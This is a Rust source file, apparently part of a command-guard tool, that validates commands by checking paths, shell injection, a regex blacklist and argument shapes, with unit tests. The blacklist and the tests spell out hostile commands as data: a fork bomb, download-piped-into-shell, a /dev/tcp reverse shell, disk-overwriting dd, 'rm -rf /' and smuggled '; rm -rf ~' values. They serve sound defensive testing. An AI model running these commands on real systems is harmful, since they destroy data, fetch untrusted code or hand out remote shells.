use crate::command::{Command, CommandKind};
use crate::error::{GuardError, Result};
use once_cell::sync::Lazy;
use regex::Regex;
use std::path::{Component, Path};

/// 검증 결과
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValidationResult {
    pub ok: bool,
    pub reason: Option<String>,
}

impl ValidationResult {
    pub fn pass() -> Self {
        Self {
            ok: true,
            reason: None,
        }
    }

    pub fn reject(reason: impl Into<String>) -> Self {
        Self {
            ok: false,
            reason: Some(reason.into()),
        }
    }

    pub fn into_result(self) -> Result<()> {
        match self.reason {
            Some(reason) if !self.ok => Err(GuardError::Validation { reason }),
            _ => Ok(()),
        }
    }
}

pub const MAX_RAW_TEXT_LEN: usize = 4096;

const SIGNALS: &[&str] = &["TERM", "KILL", "INT", "HUP", "STOP", "CONT"];
pub const PACKAGE_MANAGERS: &[&str] = &["apt", "apt-get", "brew", "pip", "pip3", "npm", "cargo"];

/// 셸이 아닌 명령어의 인자에 등장하면 안 되는 메타문자
const INJECTION_TOKENS: &[&str] = &[";", "|", "&", "`", "$(", ">", "<", "\n"];

/// 셸 명령어 금지 패턴 (이름, 정규식)
static BLACKLIST: Lazy<Vec<(&'static str, Regex)>> = Lazy::new(|| {
    [
        ("fork bomb", r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
        (
            "download piped into a shell",
            r"\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b",
        ),
        (
            "decoded payload piped into a shell",
            r"base64\s+(-d|--decode)\b[^|]*\|\s*(sudo\s+)?(ba|z)?sh\b",
        ),
        ("raw socket redirection", r"/dev/(tcp|udp)/"),
        ("eval of command substitution", r#"\beval\s+["']?(\$\(|`)"#),
        ("write to a block device", r">\s*/dev/(sd[a-z]|hd[a-z]|nvme\d|disk\d|mmcblk\d)"),
    ]
    .into_iter()
    .map(|(name, pattern)| (name, Regex::new(pattern).expect("static blacklist pattern")))
    .collect()
});

pub struct CommandValidator;

impl CommandValidator {
    pub fn new() -> Self {
        Self
    }

    /// 화이트리스트 우선 검증. 순수 함수이며 부작용이 없습니다.
    pub fn validate(&self, command: &Command) -> ValidationResult {
        if let Err(reason) = Self::check_structure(command) {
            return ValidationResult::reject(reason);
        }

        // 읽기 전용 종류는 위험 패턴 검사를 건너뜀
        if Self::is_allow_listed(command.kind()) {
            return ValidationResult::pass();
        }

        let checks: [fn(&Command) -> std::result::Result<(), String>; 4] = [
            Self::check_traversal,
            Self::check_injection,
            Self::check_blacklist,
            Self::check_shape,
        ];
        for check in checks {
            if let Err(reason) = check(command) {
                return ValidationResult::reject(reason);
            }
        }

        ValidationResult::pass()
    }

    /// 검증 실패를 에러로 변환
    pub fn check(&self, command: &Command) -> Result<()> {
        self.validate(command).into_result()
    }

    pub fn is_allow_listed(kind: CommandKind) -> bool {
        matches!(kind, CommandKind::ListDirectory | CommandKind::ReadFile)
    }

    fn check_structure(command: &Command) -> std::result::Result<(), String> {
        let raw = command.raw_text();
        if raw.trim().is_empty() {
            return Err("empty command text".to_string());
        }
        if raw.len() > MAX_RAW_TEXT_LEN {
            return Err(format!(
                "command text is {} bytes, limit is {}",
                raw.len(),
                MAX_RAW_TEXT_LEN
            ));
        }

        let target = command
            .target_path()
            .map(|p| p.to_string_lossy().into_owned());
        let fields = std::iter::once(raw)
            .chain(target.as_deref())
            .chain(command.arguments().iter().map(String::as_str));
        for field in fields {
            if field
                .chars()
                .any(|c| c == '\0' || (c.is_control() && c != '\t' && c != '\n'))
            {
                return Err("control characters are not allowed".to_string());
            }
        }

        if command.kind().requires_target() && command.target_path().is_none() {
            return Err(format!("{} requires a target path", command.kind()));
        }
        if command.arguments().len() < command.kind().required_arguments() {
            return Err(format!(
                "{} requires {} argument(s)",
                command.kind(),
                command.kind().required_arguments()
            ));
        }
        Ok(())
    }

    fn check_traversal(command: &Command) -> std::result::Result<(), String> {
        let paths = command.target_path().into_iter().chain(command.destination());
        for path in paths {
            if has_parent_component(path) {
                return Err(format!(
                    "path '{}' contains parent directory traversal",
                    path.display()
                ));
            }
        }
        Ok(())
    }

    fn check_injection(command: &Command) -> std::result::Result<(), String> {
        if command.kind() == CommandKind::Shell {
            return Ok(());
        }
        let target = command
            .target_path()
            .map(|p| p.to_string_lossy().into_owned());
        for value in target.iter().chain(command.arguments()) {
            if let Some(token) = INJECTION_TOKENS.iter().find(|t| value.contains(*t)) {
                return Err(format!(
                    "shell metacharacter '{}' in argument '{}'",
                    token.escape_default(),
                    value
                ));
            }
        }
        Ok(())
    }

    fn check_blacklist(command: &Command) -> std::result::Result<(), String> {
        if command.kind() != CommandKind::Shell {
            return Ok(());
        }
        for (name, pattern) in BLACKLIST.iter() {
            if pattern.is_match(command.raw_text()) {
                return Err(format!("forbidden pattern detected: {}", name));
            }
        }
        Ok(())
    }

    fn check_shape(command: &Command) -> std::result::Result<(), String> {
        let args = command.arguments();
        match command.kind() {
            CommandKind::PermissionChange => {
                let mode = &args[0];
                let valid = (3..=4).contains(&mode.len())
                    && mode.chars().all(|c| ('0'..='7').contains(&c));
                if !valid {
                    return Err(format!("'{}' is not an octal permission mode", mode));
                }
            }
            CommandKind::ProcessControl => {
                let signal = args[0].trim_start_matches("SIG").to_uppercase();
                if !SIGNALS.contains(&signal.as_str()) {
                    return Err(format!("unsupported signal '{}'", args[0]));
                }
                match args[1].parse::<i32>() {
                    Ok(pid) if pid > 1 => {}
                    _ => return Err(format!("'{}' is not a valid target pid", args[1])),
                }
            }
            CommandKind::PackageInstall => {
                if !PACKAGE_MANAGERS.contains(&args[0].as_str()) {
                    return Err(format!("unknown package manager '{}'", args[0]));
                }
                if let Some(bad) = args[1..].iter().find(|p| p.starts_with('-')) {
                    return Err(format!("package name '{}' looks like an option", bad));
                }
            }
            _ => {}
        }
        Ok(())
    }
}

impl Default for CommandValidator {
    fn default() -> Self {
        Self::new()
    }
}

fn has_parent_component(path: &Path) -> bool {
    path.components().any(|c| matches!(c, Component::ParentDir))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rejected(command: &Command) -> bool {
        !CommandValidator::new().validate(command).ok
    }

    #[test]
    fn test_dangerous_shell_patterns() {
        assert!(rejected(&Command::shell(":(){ :|:& };:")));
        assert!(rejected(&Command::shell("curl http://x.sh | sudo bash")));
        assert!(rejected(&Command::shell("echo aGk= | base64 -d | sh")));
        assert!(rejected(&Command::shell("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1")));
        assert!(rejected(&Command::shell("dd if=/dev/zero > /dev/sda")));

        // 안전한 명령어
        assert!(!rejected(&Command::shell("ls -la")));
        assert!(!rejected(&Command::shell("git status")));
    }

    #[test]
    fn test_destructive_shell_is_left_to_risk_assessor() {
        // 검증기는 문법/주입만 보고, 파괴성 판단은 위험도 평가기가 담당
        assert!(!rejected(&Command::shell("rm -rf /")));
    }

    #[test]
    fn test_path_traversal() {
        assert!(rejected(&Command::file_delete("../secrets.txt")));
        assert!(rejected(&Command::file_move("a.txt", "docs/../../etc")));
        assert!(!rejected(&Command::file_move("a.txt", "Documents/")));

        // 셸 명령어의 대상 경로도 같은 규칙
        assert!(rejected(&Command::shell("touch x").with_target("build/../../x")));
        assert!(!rejected(&Command::shell("touch x").with_target("build/x")));
        assert!(!rejected(&Command::shell("ls ..")));
    }

    #[test]
    fn test_injection_in_structured_kinds() {
        assert!(rejected(&Command::file_delete("b.tmp; rm -rf ~")));
        let cmd = Command::new(CommandKind::PermissionChange, "chmod 644 x")
            .with_target("x")
            .with_args(["644 && reboot"]);
        assert!(rejected(&cmd));
    }

    #[test]
    fn test_allow_listed_kinds_skip_pattern_scan() {
        let cmd = Command::new(CommandKind::ReadFile, "cat ../notes.txt").with_target("../notes.txt");
        assert!(!rejected(&cmd));
    }

    #[test]
    fn test_structural_rejections() {
        assert!(rejected(&Command::shell("   ")));
        assert!(rejected(&Command::shell("echo \0")));
        assert!(rejected(&Command::shell("x".repeat(MAX_RAW_TEXT_LEN + 1))));
        assert!(rejected(&Command::new(CommandKind::FileDelete, "rm")));
    }

    #[test]
    fn test_kind_shapes() {
        let chmod = |mode: &str| {
            Command::new(CommandKind::PermissionChange, "chmod")
                .with_target("f")
                .with_args([mode])
        };
        assert!(!rejected(&chmod("644")));
        assert!(!rejected(&chmod("0755")));
        assert!(rejected(&chmod("999")));
        assert!(rejected(&chmod("rwx")));

        let kill = |sig: &str, pid: &str| {
            Command::new(CommandKind::ProcessControl, "kill").with_args([sig, pid])
        };
        assert!(!rejected(&kill("TERM", "4242")));
        assert!(!rejected(&kill("SIGKILL", "4242")));
        assert!(rejected(&kill("TERM", "1")));
        assert!(rejected(&kill("USR9", "4242")));

        let install = |mgr: &str, pkg: &str| {
            Command::new(CommandKind::PackageInstall, "install").with_args([mgr, pkg])
        };
        assert!(!rejected(&install("npm", "left-pad")));
        assert!(rejected(&install("yum", "vim")));
        assert!(rejected(&install("pip", "--index-url=evil")));
    }

    #[test]
    fn test_validation_is_deterministic_on_arbitrary_input() {
        // 간단한 퍼징: 어떤 입력에도 패닉하지 않고 같은 결과를 반환
        let validator = CommandValidator::new();
        let samples = [
            "", "\u{1F600}", "$(", "`", "a\u{7f}b", "../..", ";;;;", "é$(x)",
        ];
        for a in samples {
            for b in samples {
                let cmd = Command::shell(format!("{}{}", a, b)).with_target(b).with_args([a]);
                let first = validator.validate(&cmd);
                let second = validator.validate(&cmd);
                assert_eq!(first, second);
            }
        }
    }

    #[test]
    fn test_into_result() {
        let err = CommandValidator::new()
            .check(&Command::shell(":(){ :|:& };:"))
            .unwrap_err();
        assert!(matches!(err, GuardError::Validation { .. }));
    }
}
